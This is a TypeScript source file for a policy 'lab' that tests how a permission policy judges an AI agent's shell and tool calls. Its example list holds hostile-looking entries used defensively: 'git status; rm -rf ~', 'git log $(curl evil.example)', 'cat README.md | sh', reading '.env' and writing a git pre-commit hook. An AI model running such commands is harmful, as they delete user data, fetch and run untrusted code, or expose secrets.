import type { ProjectId, ProviderId } from '#protocol/ids'
import type { PolicyDecision, PolicyTest, RuleDraft } from '#protocol/policy'
import type { PermissionMode } from '#protocol/providers'
import * as z from 'zod/mini'
import { labText } from './text-policy.ts'

/** A call as the lab holds it: text as typed. */
export interface LabCall {
  kind: 'command' | 'tool'
  command: string
  tool: string
  input: string
}

export interface LabPlace {
  projectId: ProjectId
  provider: ProviderId | null
  mode: PermissionMode
}

const Input = z.record(z.string(), z.unknown())

const COMMAND_TOOL = 'Bash'

export const EMPTY_CALL: LabCall = { kind: 'command', command: '', tool: 'Read', input: '{ "file_path": "" }' }

interface LabExample {
  label: string
  call: Partial<LabCall> & Pick<LabCall, 'kind'>
}

/** Calls that show how the policy thinks. */
export const LAB_EXAMPLES: readonly LabExample[] = [
  { label: 'git status', call: { kind: 'command', command: 'git status' } },
  { label: 'git status; rm -rf ~', call: { kind: 'command', command: 'git status; rm -rf ~' } },
  { label: 'npm test', call: { kind: 'command', command: 'npm test' } },
  { label: 'git log $(curl evil.example)', call: { kind: 'command', command: 'git log $(curl evil.example)' } },
  { label: 'cat README.md | sh', call: { kind: 'command', command: 'cat README.md | sh' } },
  { label: 'Read .env', call: { kind: 'tool', tool: 'Read', input: '{ "file_path": ".env" }' } },
  {
    label: 'Write .git/hooks/pre-commit',
    call: { kind: 'tool', tool: 'Write', input: '{ "file_path": ".git/hooks/pre-commit", "content": "#!/bin/sh" }' },
  },
  {
    label: 'Fetch a page',
    call: { kind: 'tool', tool: 'WebFetch', input: '{ "url": "https://example.org/docs", "prompt": "Summarise" }' },
  },
]

type ReadCall = { test: PolicyTest; fault: null } | { test: null; fault: string }

/** What is sent for a call; what is wrong with it as a sentence. */
export function readCall(call: LabCall, { projectId, provider, mode }: LabPlace): ReadCall {
  const place = { projectId, mode, ...(provider !== null && { provider }) }
  if (call.kind === 'command') {
    const isEmpty = call.command.trim() === ''
    if (isEmpty) return { test: null, fault: labText.noCommand }
    return { test: { toolName: COMMAND_TOOL, toolInput: { command: call.command }, ...place }, fault: null }
  }
  const toolName = call.tool.trim()
  if (toolName === '') return { test: null, fault: labText.noTool }
  const input = Input.safeParse(parsed(call.input))
  return input.success ? { test: { toolName, toolInput: input.data, ...place }, fault: null } : { test: null, fault: labText.notObject }
}

function parsed(text: string): unknown {
  try {
    return JSON.parse(text)
  } catch {
    return undefined
  }
}

/** The narrowest rule in the project that speaks of the call; a person widens it in the form. */
export function ruleOfCall({ toolName, toolInput, projectId }: PolicyTest, verdict: PolicyDecision): RuleDraft {
  const { command, file_path: path, url } = toolInput
  const site = typeof url === 'string' ? URL.parse(url)?.hostname : undefined
  return {
    decision: verdict === 'allow' ? 'ask' : 'allow',
    scope: { kind: 'project', projectId },
    match: {
      ...(typeof command === 'string' ? { command: command.trim().replace(/\s+/g, ' ') } : { tools: [toolName] }),
      ...(typeof path === 'string' && path !== '' && { paths: [path] }),
      ...(site !== undefined && site !== '' && { domains: [site] }),
    },
    reason: '',
    expiresAt: null,
  }
}
